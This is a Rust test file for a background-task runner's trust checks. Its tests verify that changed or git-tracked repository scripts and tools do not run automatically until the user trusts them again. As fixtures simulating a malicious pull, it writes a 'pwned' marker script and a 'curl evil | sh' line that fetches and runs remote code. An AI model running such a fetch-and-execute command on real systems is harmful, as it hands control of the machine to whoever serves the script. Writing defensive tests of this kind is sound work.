//! Trust: nothing runs by itself in a worktree nobody trusted, and a
//! change to what a task runs (a `git pull`) blocks that task alone until
//! trusted again (RELIABILITY 22).

use crate::harness::Project;

const NO_WATCH: &str = r#""triggers": {"file_watch": {"enabled": false}}"#;

#[test]
fn an_untrusted_worktree_runs_nothing_by_itself_but_explicit_commands_work() {
    let p = Project::triggered(&[("lint", r#"["commit"]"#)], NO_WATCH);
    p.commit_all("setup");
    let run = p.bgtask(&["install-hooks", "--no-trust"]);
    run.code(0);
    assert!(!run.stdout.contains("trusted"), "{}", run.stdout);
    p.start();
    p.file("a.py", "a = 1\n");
    p.commit_all("one");
    let status = p.wait_routed(1);
    assert!(p.records().is_empty(), "{:?}", p.records());
    assert_eq!(status["untrusted"][0]["task"], "lint", "{status}");
    assert_eq!(status["untrusted"][0]["state"], "untrusted");
    let text = p.bgtask(&["status"]).stdout;
    assert!(
        text.contains("trust    lint does not run by itself"),
        "{text}"
    );
    assert!(
        p.daemon_log().contains("`bgtask trust` trusts it"),
        "said once in the log:\n{}",
        p.daemon_log()
    );
    // Explicit requests need no trust.
    p.bgtask(&["submit", "lint", "--files", "a.py"]).code(0);
    assert_eq!(p.wait_records(1), ["lint [a.py]"]);
    // Without a terminal, trust wants --yes.
    let refused = p.bgtask(&["trust"]);
    refused.code(64);
    assert!(refused.stderr.contains("--yes"), "{}", refused.stderr);
    p.bgtask(&["trust", "--yes"]).code(0);
    p.file("a.py", "a = 2\n");
    p.commit_all("two");
    assert_eq!(p.wait_records(2)[1], "lint [a.py]");
    assert!(p.status()["untrusted"].as_array().unwrap().is_empty());
    p.stop();
}

#[test]
fn a_pulled_change_to_a_tasks_command_blocks_only_that_task() {
    let p = Project::triggered(
        &[("lint", r#"["commit"]"#), ("mine", r#"["commit"]"#)],
        NO_WATCH,
    );
    // `mine` runs a repository script of its own.
    p.file("bin/mine.sh", "#!/bin/sh\nexec ./bin/record.sh \"$@\"\n");
    std::process::Command::new("chmod")
        .args(["+x", p.path().join("bin/mine.sh").to_str().unwrap()])
        .status()
        .unwrap();
    let config = p.read(".background-tasks.json").replace(
        r#""rec-mine": {"command": "./bin/record.sh""#,
        r#""rec-mine": {"command": "./bin/mine.sh""#,
    );
    p.config(&config);
    p.commit_all("setup");
    p.bgtask(&["install-hooks", "--no-start"]).code(0);
    p.start();
    p.file("a.py", "a = 1\n");
    p.commit_all("one");
    let mut first = p.wait_records(2);
    first.sort();
    assert_eq!(first, ["lint [a.py]", "mine [a.py]"]);

    // As if pulled: the script now does something else.
    p.file(
        "bin/mine.sh",
        "#!/bin/sh\necho pwned > pwned.txt\nexec ./bin/record.sh \"$@\"\n",
    );
    p.file("a.py", "a = 2\n");
    p.commit_all("pulled");
    assert_eq!(
        p.wait_records(3)[2],
        "lint [a.py]",
        "lint still runs, mine does not"
    );
    assert!(!p.path().join("pwned.txt").exists());
    let status = p.status();
    assert_eq!(status["untrusted"][0]["task"], "mine", "{status}");
    assert_eq!(status["untrusted"][0]["state"], "changed");
    let diff = p.bgtask(&["trust", "--diff"]);
    diff.code(0);
    assert!(
        diff.stdout.contains("mine: changed since trusted"),
        "{}",
        diff.stdout
    );
    assert!(
        diff.stdout.contains("- file bin/mine.sh"),
        "{}",
        diff.stdout
    );
    assert!(
        diff.stdout.contains("+ file bin/mine.sh"),
        "{}",
        diff.stdout
    );
    assert!(diff.stdout.contains("lint: trusted"), "{}", diff.stdout);
    let json = p.bgtask(&["trust", "--status", "--json"]).json();
    assert_eq!(json["lint"]["state"], "trusted");
    assert_eq!(json["mine"]["state"], "changed");
    p.stop();

    // CI=true skips the check.
    let ci = p
        .command(&["start", "--foreground"])
        .env("CI", "true")
        .stderr(std::process::Stdio::null())
        .spawn();
    let mut ci = ci.unwrap();
    crate::harness::wait_for(20, "the daemon", || p.bgtask(&["status"]).code == 0);
    p.file("a.py", "a = 3\n");
    p.commit_all("in ci");
    let mut got = p.wait_records(5);
    got.sort();
    assert_eq!(
        got.iter().filter(|l| l.starts_with("mine")).count(),
        2,
        "{got:?}"
    );
    assert!(p.path().join("pwned.txt").exists());
    p.bgtask(&["stop"]).code(0);
    let _ = ci.wait();
}

/// Writes an executable script.
fn exe(p: &Project, rel: &str, body: &str) {
    use std::os::unix::fs::PermissionsExt;
    p.file(rel, body);
    std::fs::set_permissions(p.path().join(rel), std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// A tool inside the worktree is repository code: a `.venv/bin/bandit`
/// that git tracks (committed here, pulled elsewhere) does not run by
/// itself until trusted, while the user's own ignored `.venv` keeps
/// working without a word.
#[test]
fn a_tracked_tool_in_the_project_environment_needs_trust_again() {
    let p = Project::triggered(&[], NO_WATCH);
    p.config(
        r#"{"execution": {"max_retries": 0},
            "tasks": {"security": {"analyzers": ["bandit"], "triggers": ["commit"]}}}"#,
    );
    p.file(".gitignore", ".venv/\ncalls.log\n");
    let bandit = crate::harness::tool("bandit");
    let calls = p.path().join("calls.log");
    let wrapper = |who: &str| {
        format!(
            "#!/bin/sh\necho {who} >> '{}'\nexec '{}' \"$@\"\n",
            calls.display(),
            bandit.display()
        )
    };
    exe(&p, ".venv/bin/bandit", &wrapper("user"));
    p.commit_all("setup");
    p.bgtask(&["install-hooks", "--no-start"]).code(0);
    p.start();
    p.file("a.py", "a = 1\n");
    p.commit_all("one");
    crate::harness::wait_for(30, "the user's own bandit", || {
        p.daemon_log().contains("job finished")
    });
    assert!(p.read("calls.log").starts_with("user\n"));
    assert!(p.status()["untrusted"].as_array().unwrap().is_empty());
    assert!(
        p.bgtask(&["trust", "--diff"])
            .stdout
            .contains("security: trusted")
    );

    // As if pulled: git now tracks a bandit of the repository's own.
    exe(&p, ".venv/bin/bandit", &wrapper("pulled"));
    p.git(&["add", "-f", ".venv/bin/bandit"]);
    p.file("a.py", "a = 2\n");
    p.commit_all("pulled");
    crate::harness::wait_for(30, "the trigger to be refused", || {
        p.daemon_log().contains("security does not run by itself")
    });
    let status = p.status();
    assert_eq!(status["untrusted"][0]["task"], "security", "{status}");
    assert_eq!(status["untrusted"][0]["state"], "changed");
    let diff = p.bgtask(&["trust", "--diff"]);
    assert!(
        diff.stdout.contains("+ file .venv/bin/bandit "),
        "{}",
        diff.stdout
    );
    assert!(
        !p.read("calls.log").contains("pulled"),
        "the pulled tool never ran"
    );

    p.bgtask(&["trust", "--yes"]).code(0);
    p.file("a.py", "a = 3\n");
    p.commit_all("trusted");
    crate::harness::wait_for(30, "the trusted tool", || {
        p.read("calls.log").contains("pulled")
    });
    p.stop();
}

/// A `PATH` entry inside the worktree (a direnv `PATH_add bin`) makes the
/// tool found there repository code too, when git tracks it.
#[test]
fn a_tracked_tool_found_on_a_path_entry_inside_the_worktree_needs_trust() {
    let p = Project::triggered(&[], NO_WATCH);
    p.config(
        r#"{"tasks": {"check": {"analyzers": ["mytool"], "triggers": ["commit"]}},
            "analyzers": {"mytool": {"command": "mytool", "lookup": ["path"], "mode": "project", "parser": "exit-code"}}}"#,
    );
    exe(&p, "tools/mytool", "#!/bin/sh\nexit 0\n");
    p.commit_all("setup");
    let path = format!(
        "{}:{}",
        p.path().join("tools").display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let status = |p: &Project| -> serde_json::Value {
        let out = p
            .command(&["trust", "--status", "--json"])
            .env("PATH", &path)
            .output()
            .unwrap();
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let trusted = p
        .command(&["trust", "--yes"])
        .env("PATH", &path)
        .output()
        .unwrap();
    assert!(trusted.status.success());
    assert_eq!(status(&p)["check"]["state"], "trusted");
    exe(&p, "tools/mytool", "#!/bin/sh\ncurl evil | sh\n");
    let now = status(&p);
    assert_eq!(now["check"]["state"], "changed", "{now:#}");
    assert!(
        now["check"]["diff"]
            .as_array()
            .unwrap()
            .iter()
            .any(|l| l.as_str().unwrap().starts_with("+ file tools/mytool ")),
        "{now:#}"
    );
}
